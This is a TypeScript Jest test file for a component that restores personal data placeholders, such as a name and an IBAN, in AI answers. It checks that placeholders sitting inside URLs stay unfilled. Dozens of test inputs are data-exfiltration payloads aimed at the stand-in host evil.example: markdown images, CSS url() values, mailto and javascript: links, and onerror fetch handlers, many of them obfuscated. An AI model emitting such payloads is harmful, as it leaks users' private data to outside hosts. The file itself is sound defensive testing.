import { describe, expect, test } from "@jest/globals";
import { relinkAnswer } from "./relink-answer.ts";
import { createStreamRelinker } from "./stream/stream-relinker.ts";

const ENTRIES = [
  { placeholder: "[PERSON_1]", value: "Anna Weber" },
  { placeholder: "[IBAN_1]", value: "DE89 3704 0044" },
  { placeholder: "[URL_1]", value: "https://own.example/start" },
];

function whole(text: string): string {
  const request = { blocks: [text], entries: ENTRIES, hosts: [] };
  return relinkAnswer({ form: "text", ...request }).blocks.join("");
}

function streamed(text: string): string {
  const stream = createStreamRelinker({ entries: ENTRIES });
  return [...text].map((unit) => stream.push(unit).join("|")).join("") + stream.end().join("|");
}

const URL = "https://evil.example/?q=";

describe("A URL that begins after a sign", () => {
  test.each([
    `![x](${URL} [IBAN_1])`,
    `![x](${URL}\t[IBAN_1])`,
    `![x](${URL}\n[IBAN_1])`,
    `![x](${URL}\r\n[IBAN_1])`,
    `![x](${URL}\f[IBAN_1])`,
    `![x](${URL} a b c [IBAN_1] "t")`,
    `![x]( ${URL} [IBAN_1])`,
    `![x](<${URL} [IBAN_1]>)`,
    `![x](ht&NewLine;tps:evil.example/?q= [IBAN_1])`,
    `![x](${URL}(a b) [IBAN_1])`,
    `![x](${URL}"a) [IBAN_1]" b)`,
    `![x](${URL} "a) [IBAN_1]" b)`,
    `![x](/local?q= [IBAN_1])`,
    '<svg><desc>a\n\nb</desc></svg>\n\n</desc>\n\n<style><g x="</style>"></g>x{}*{background:url("\\68ttps://evil.example/?q= [IBAN_1]")}',
    '<math><mi>a\n\nb</mi></math>\n\n</mi>\n\n<style><g x="</style>"></g>x{}*{background:url("\\68ttps://evil.example/?q= [IBAN_1]")}',
    `![x](${URL}\`) [IBAN_1] \`)`,
    `![x](${URL}[a) [IBAN_1]](b))`,
    `![x](${URL} ~~~ [IBAN_1])`,
    `![x](${URL} \`\`\` [IBAN_1])`,
    `![x](${URL}\n~~~\n[IBAN_1]\n~~~\n)`,
    `![x](${URL}\n\`\`\`\n[IBAN_1]\n\`\`\`\n)`,
    `![x](${URL}\n~~~\na\n~~~\n[IBAN_1])`,
    `![x](${URL}\n\`\`\`\na\n\`\`\`\n[IBAN_1])`,
    `![x][1]\n\n[1]: ${URL}\n~~~\na\n~~~\n[IBAN_1]`,
    `![x] (${URL} [IBAN_1])`,
    `![x]\n(${URL} [IBAN_1])`,
    `[x] (${URL}\n\f\n[IBAN_1])`,
    `[x]\f(${URL}\f) [IBAN_1])`,
    `See ${URL}\f[PERSON_1]`,
    `(\f ${URL} [PERSON_1])`,
    `https://a.example\fsrc=${URL} [PERSON_1]`,
    "![x] (/&Tab;/evil.example/?q=[IBAN_1])",
    "![x] (/&#9;/evil.example/?q= [IBAN_1])",
    "![x] (/&#x0000000a;/evil.example/?q= [IBAN_1])",
    "![x] (/\u200b/evil.example/?q= [IBAN_1])",
    "![x] (&#47&#47evil.example/?q= [IBAN_1])",
    `[x](${URL} [IBAN_1])`,
    `[x] (${URL} [IBAN_1])`,
    `a [x]: ${URL} [IBAN_1]`,
    `![x][1]\n\n[1]: ${URL} [IBAN_1]`,
    `![x][1]\n\n[1]:\n${URL}\n[IBAN_1]`,
    "a <kbd>{<img src=/&Tab;/evil.example/`_>[IBAN_1] x",
    "a <kbd>{<img src=/own/`_>[IBAN_1] x",
    "a <kbd>{<img x, src=/own/>[IBAN_1] x",
    `<math>x\n<style><p>x{}*{background:url("${URL} [IBAN_1]")}`,
    `<math>x\n<style><p>x{}*{background:url(${URL} [IBAN_1])}`,
    `<svg><title><style></title>x{}*{background:url(${URL} [IBAN_1])}`,
    `x{}*{background:url( "${URL} [IBAN_1]")}`,
    `<a href='${URL} [IBAN_1]`,
    `x src=${URL} [IBAN_1]`,
    `x src= "${URL} [IBAN_1]"`,
    `(see ("${URL} \\" [IBAN_1]")`,
    `x < ${URL} [IBAN_1] >`,
    "(\\\\evil.example\\ [IBAN_1])",
    "(foo://evil.example/ [IBAN_1])",
    "(mailto:thief@evil.example?body= [IBAN_1])",
    "(mailto: thief@evil.example?body= [IBAN_1])",
    "(https: //evil.example/?q= [IBAN_1])",
    "(tel:+1900555 [IBAN_1])",
    "[x] (tel: +1900555 [IBAN_1])",
    "[x]: tel: +1900555 [IBAN_1]",
    "'javascript:fetch(`//evil.example/`+ `[IBAN_1]`)'",
    `a='"https://a' src="${URL} [IBAN_1]"`,
    `x{}*{a:'(https://a' 'b';c:url('${URL}) [IBAN_1]')}`,
    `![x](/y){: a='"https://a' src="${URL} [IBAN_1]"}`,
    `![x](/y){: a='https://a/\\' src='${URL} [IBAN_1]'}`,
    `![x](/y){: a="}" b='"https://a' src="${URL} [IBAN_1]"}`,
    `![x](/y){: a="{" b='"https://a' src="${URL} [IBAN_1]"}`,
    `![x](/y){: a="x"b='"https://a' src="${URL} [IBAN_1]"}`,
    `![x](/y){: a="\\}" b='"https://a' src="${URL} [IBAN_1]"}`,
    `![x](/y){ a='"https://a' src="${URL} [IBAN_1]" }`,
    `![x](/y){: a='"https://a\n\n' src="${URL} [IBAN_1]"}`,
    "![x](/y){: a='\n```\n' style=\"background:url('\\68ttps://evil.example/?q= [IBAN_1]')\"}",
    "text\n{: style=\"background:url('\\68ttps://evil.example/?q= [IBAN_1]')\"}",
    "# text {style=\"background:url('\\68ttps://evil.example/?q= [IBAN_1]')\"}",
    '<base href=//evil.example>\n\n![x](/y){: src="q [IBAN_1]"}',
    "![x](/y){: onerror=\"fetch('/'+'/evil.example/?q= [IBAN_1]')\"}",
    '![x](/y){: src="ht\ttps://evil.example/?q= [IBAN_1]"}',
  ])(
    "a placeholder after a space in the URL stays, in a whole answer and in a stream: %j",
    (text) => {
      expect(whole(text)).toBe(text);
      expect(streamed(text)).toBe(text);
    },
  );

  test("a placeholder after a value that is itself the URL stays, in a whole answer and in a stream", () => {
    const text = 'background: ("[URL_1] [IBAN_1]")';
    const expected = 'background: ("https://own.example/start [IBAN_1]")';
    expect(whole(text)).toBe(expected);
    expect(streamed(text)).toBe(expected);
  });
});

describe("Text after a URL that has ended", () => {
  test.each([
    ["URL that ends at a space, in prose", "See https://example.org/help. Your IBAN: [IBAN_1]"],
    ["in a link", "See [the help](https://example.org/help). Your IBAN: [IBAN_1]"],
    ["in a link with a title", 'See [the help](https://example.org "Help 1") for [IBAN_1]'],
    ["in an image", "![logo](https://example.org/a_(b).png) Dear [PERSON_1]"],
    ["in parentheses", "It is online (https://example.org/help), [PERSON_1]."],
    ["in parentheses with words", "(https://example.org, read in May) Dear [PERSON_1]"],
    ["in quotation marks", 'Open "https://example.org/help" for [PERSON_1]'],
    ["in quotation marks of code", "`https://example.org`, [PERSON_1]"],
    ["in angle brackets", "See <https://example.org/help> for [PERSON_1]"],
    ["in braces", "The set {x: https://example.org/help?a=b, c: 1} of [PERSON_1]"],
    ["in braces of code", "{ const url = 'https://example.org/help'; const name = '[PERSON_1]'; }"],
    ["in a string of JSON", '{"a": "See https://example.org/?a=b. [PERSON_1]"}'],
    ["URL that ends with its line", "API_URL=https://example.org/v1\nNAME=[PERSON_1]"],
    ["URL that ends with its paragraph", `![x](${URL} a\n\nDear [PERSON_1]`],
    ["URL that ends with its definition", "[1]: https://example.org/help\n\nDear [PERSON_1]"],
    ["label without a URL", "(Tel: 030 12345 of [PERSON_1])"],
    ["quotation without a URL", 'He wrote "News: [PERSON_1]"'],
    ["scheme without a URL", '(see the page "https" of [PERSON_1])'],
    ["with a parameter", "https://example.org/login?next=https://example.org/a for [PERSON_1]"],
  ])(
    "a value after a URL is restored, in a whole answer and in a stream (%s): %j",
    (_where, text) => {
      const expected = text
        .replace("[IBAN_1]", "DE89 3704 0044")
        .replace("[PERSON_1]", "Anna Weber");
      expect(whole(text)).toBe(expected);
      expect(streamed(text)).toBe(expected);
    },
  );
});

describe("An answer that is HTML as a whole", () => {
  test.each([
    '<!DOCTYPE html>\n<html>\n<head>\n<title>Letter</title>\n<style>\np { color: red }\n</style>\n</head>\n<body>\n<p class="a_b">Dear [PERSON_1],</p>\n<!-- the account -->\n<td>[IBAN_1]</td>\n</body>\n</html>',
    '<a href="https://example.org/help"\n   class="x">Help</a> [PERSON_1]<br/>[IBAN_1]',
    "<pre>\n[PERSON_1]\n</pre>",
  ])("text in HTML is restored: %j", (text) => {
    expect(whole(text)).toBe(
      text.replace("[IBAN_1]", "DE89 3704 0044").replace("[PERSON_1]", "Anna Weber"),
    );
  });

  test.each([
    "<p>a\n<style>\n[IBAN_1]\n</style>",
    "<script>if (a < b) x('</scr' + '[IBAN_1]')</script>",
    "<!-- <p> --> [IBAN_1]",
    "<title><b>[IBAN_1]</title>",
  ])("placeholders outside the text of HTML stay: %j", (text) => {
    expect(whole(text)).toBe(text);
  });
});
